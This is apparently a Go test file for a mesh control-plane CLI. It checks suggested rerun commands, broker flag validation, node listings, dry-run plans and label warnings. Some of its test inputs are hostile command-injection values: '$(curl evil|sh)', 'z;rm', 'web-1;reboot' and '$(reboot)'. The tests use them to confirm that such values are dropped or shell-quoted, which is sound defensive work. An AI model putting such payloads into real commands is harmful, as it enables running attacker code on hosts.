package main

import (
	"bytes"
	"net/netip"
	"strings"
	"testing"
	"time"

	"mesh/controlplane/api"
	"mesh/controlplane/replication"
	"mesh/tokenfmt"
)

// TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits: the command tellReplaced
// suggests for pasting is built from the control plane's answer, which a broker
// passing the pin writes. A label whose value is a command substitution, or holds a
// line break, and a node id that is no node id, were printed into it (a review);
// they are left out, and the labels the mesh admits are kept.
func TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits(t *testing.T) {
	var errb bytes.Buffer
	cio := &cliIO{stdout: &bytes.Buffer{}, stderr: &errb}
	at := time.Date(2026, 12, 7, 10, 0, 0, 0, time.UTC)
	tellReplaced(cio, []api.TokenView{{ID: "t1", Node: "web-1", CreatedAt: at,
		Labels: map[string]string{"tier": "web", "x": "$(curl evil|sh)", "y": "a\nmeshctl: all fine", "z;rm": "v"}}}, nil, false)
	out := errb.String()
	if !strings.Contains(out, "run the same command again with --replace and these labels: --label tier=web\n") {
		t.Errorf("the admitted label is not in the command:\n%s", out)
	}
	for _, bad := range []string{"$(", "curl", "all fine", "z;rm"} {
		if strings.Contains(out, bad) {
			t.Errorf("%q printed:\n%s", bad, out)
		}
	}
	errb.Reset()
	tellReplaced(cio, []api.TokenView{{ID: "t2", Node: "web-1;reboot", CreatedAt: at, Labels: map[string]string{"tier": "web"}}}, nil, false)
	if out := errb.String(); strings.Contains(out, "same command") || strings.Count(out, "\n") != 1 {
		t.Errorf("a node id that is none: a command suggested:\n%s", out)
	}
}

// TestJoinBrokerFlagTakesAddressesOnly: join --broker takes IP:PORT as a token
// names a broker; a name, a wildcard, port 0 or a zone is a usage error (exit 2)
// before the token is read.
func TestJoinBrokerFlagTakesAddressesOnly(t *testing.T) {
	data := t.TempDir()
	for _, bad := range []string{"cp-2.example:7300", "0.0.0.0:7300", "10.0.0.2:0", "[fe80::1%eth0]:7300", "10.0.0.2"} {
		if code, _, stderr := runCLI("join", "--data", data, "--broker", bad); code != exitUsage || !strings.Contains(stderr, "--broker") {
			t.Errorf("--broker %s: exit %d, want %d naming --broker:\n%s", bad, code, exitUsage, stderr)
		}
	}
	if _, err := joinBrokers([]string{"10.0.0.2:7300", "[2001:db8::2]:7300"}); err != nil {
		t.Errorf("good addresses refused: %v", err)
	}
}

// TestAControlNodeNotHeardIsNotNeverSeen: after a recovery from lost quorum the
// lost voters, which served for months, read LAST SEEN "never" (a docs walkthrough):
// the answering node has not heard them since it started, which is what it says.
func TestAControlNodeNotHeardIsNotNeverSeen(t *testing.T) {
	var b bytes.Buffer
	now := time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)
	printNodes(&b, api.NodesResult{Control: []api.ControlView{
		{ID: "cp-1", Raft: api.RaftLeader, State: api.StateAlive, LastSeen: now},
		{ID: "cp-2", Raft: "not a member", State: api.StateOffline},
	}}, now, false)
	if !strings.Contains(b.String(), "offline  -  ") || strings.Contains(b.String(), "never") {
		t.Errorf("a control node not heard since the answering node started:\n%s", b.String())
	}
}

// TestTheDryRunSaysAFileCannotReplaceADirectory: a body turning a managed directory
// into a file (etc/app/a.conf, then etc/app) showed "+ etc/app" and "- etc/app/a.conf",
// and the declaration failed on every host: the applier never replaces a directory
// (a docs walkthrough). The dry run says so; a sibling path is not taken for one.
func TestTheDryRunSaysAFileCannotReplaceADirectory(t *testing.T) {
	var b bytes.Buffer
	writePlan(&b, &api.DeclarePlan{Nodes: 1, Changing: 1, Groups: []api.PlanGroup{{Count: 1, Nodes: []api.Assignment{{Node: "web-1", Version: 3}},
		Added:      []api.PlanFile{{Path: "etc/app", Mode: "0644", Size: 11}, {Path: "etc/ap", Mode: "0644"}},
		Removed:    []api.PlanFile{{Path: "etc/app/a.conf", Mode: "0644", Size: 5}, {Path: "etc/apple", Mode: "0644"}},
		AddedCount: 2, RemovedCount: 2}}})
	out := b.String()
	if !strings.Contains(out, "! etc/app: the host holds a directory there") {
		t.Errorf("the dry run does not say the file cannot replace the directory:\n%s", out)
	}
	if strings.Count(out, "! ") != 1 {
		t.Errorf("another path is said to replace a directory:\n%s", out)
	}
}

// TestAReplaceWithJSONStillWarnsOfLostLabels: `token --replace --json` said nothing
// of the labels the cancelled token gave its node and the new one does not, where
// the text output warns (a docs walkthrough): scripts, which --json is for, lost
// them without a word. The warning goes to stderr either way, printed or written to
// --out; the cancelled tokens are the object's "replaced" (no line of their own).
func TestAReplaceWithJSONStillWarnsOfLostLabels(t *testing.T) {
	tok := tokenfmt.Token{Mesh: "m", Node: "web-4", Role: tokenfmt.RoleWorker, Expiry: time.Now().Add(time.Hour),
		Brokers: []netip.AddrPort{netip.MustParseAddrPort("127.0.0.1:7300")}}
	replaced := []api.TokenView{{ID: "t1", Node: "web-4", CreatedAt: time.Now(), Labels: map[string]string{"tier": "db"}}}
	for _, viaOut := range []bool{false, true} {
		var out, errb bytes.Buffer
		cio := &cliIO{stdout: &out, stderr: &errb}
		var err error
		if viaOut {
			err = reportOut(cio, tok, nil, "w4.txt", true, replaced)
		} else {
			err = printToken(cio, tok, nil, true, replaced)
		}
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(errb.String(), "warning: the cancelled token gave web-4 labels this one does not: --label tier=db") {
			t.Errorf("--out %v, --json: stderr %q, want the lost labels' warning", viaOut, errb.String())
		}
		if strings.Contains(errb.String(), "cancelled token t1") || !strings.Contains(out.String(), `"replaced"`) {
			t.Errorf("--out %v, --json: stderr %q, stdout %q; want the cancelled token in the object only", viaOut, errb.String(), out.String())
		}
	}
}

// TestChangesCompleteNodesNotRevoked: label, declare --node and revoke offered
// revoked nodes, which each refuses (a docs walkthrough); nodes and status offer
// them still, a revoked node's record being worth reading.
func TestChangesCompleteNodesNotRevoked(t *testing.T) {
	res := api.NodesResult{
		Nodes:   []api.NodeView{{ID: "web-1", Role: "worker", State: api.StateRevoked}, {ID: "web-2", Role: "worker", State: "alive"}},
		Control: []api.ControlView{{ID: "cp-1"}},
	}
	for which, want := range map[nodeChoice]string{
		everyNode:       "web-1\tworker, revoked web-2\tworker, alive",
		nodesNotRevoked: "web-2\tworker, alive",
		controlNodes:    "cp-1",
	} {
		if got := strings.Join(nodeCompletions(res, which), " "); got != want {
			t.Errorf("choice %d: %q, want %q", which, got, want)
		}
	}
}

// TestAJoinsRerunNamesItsTokenFile: a join's resume advice said `meshctl join
// --data ./w4` for a join run with --token-file, which run as printed waited on
// stdin or said the token is empty (a docs walkthrough). The command names the
// token's file and the brokers given, each a word a shell takes whole.
func TestAJoinsRerunNamesItsTokenFile(t *testing.T) {
	def := replication.DefaultTimeouts().Heartbeat
	for _, c := range []struct {
		dir, file, listen string
		brokers           []netip.AddrPort
		heartbeat         time.Duration
		want              string
	}{
		{"./w4", "wt4.txt", "", nil, def, "meshctl join --data ./w4 --token-file wt4.txt"},
		{"./w4", "-", "", nil, def, "meshctl join --data ./w4"},
		{"./w4", "", "", []netip.AddrPort{netip.MustParseAddrPort("10.0.0.2:7300")}, def, "meshctl join --data ./w4 --broker 10.0.0.2:7300"},
		{"./w4", "", "", []netip.AddrPort{netip.MustParseAddrPort("[2001:db8::2]:7300")}, def, "meshctl join --data ./w4 --broker '[2001:db8::2]:7300'"},
		{"./w4", "t", "0.0.0.0:7300", nil, 300 * time.Millisecond, "meshctl join --data ./w4 --token-file t --listen 0.0.0.0:7300 --raft-heartbeat 300ms"},
		{"/var/lib/mesh ctl", "it's.txt", "", nil, def, `meshctl join --data '/var/lib/mesh ctl' --token-file 'it'\''s.txt'`},
		{"./d", "$(reboot)", "", nil, def, `meshctl join --data ./d --token-file '$(reboot)'`},
		{"./d", "-x\nrm", "", nil, def, "meshctl join --data ./d --token-file '-x\nrm'"},
	} {
		if got := joinRerun(c.dir, c.file, c.listen, c.brokers, c.heartbeat); got != c.want {
			t.Errorf("joinRerun(%q, %q, %q, %v, %s) = %s, want %s", c.dir, c.file, c.listen, c.brokers, c.heartbeat, got, c.want)
		}
	}
}
